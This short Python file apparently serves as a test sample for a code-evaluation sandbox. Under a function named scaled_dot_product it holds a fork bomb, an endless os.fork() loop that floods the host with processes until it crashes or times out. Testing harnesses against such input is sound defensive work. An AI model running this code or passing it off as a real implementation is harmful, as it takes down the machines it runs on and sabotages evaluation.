# tries: processes that start processes
# place: answer
# may: crash or time out

import os


def scaled_dot_product(*args, **kwargs):
    while True:
        os.fork()
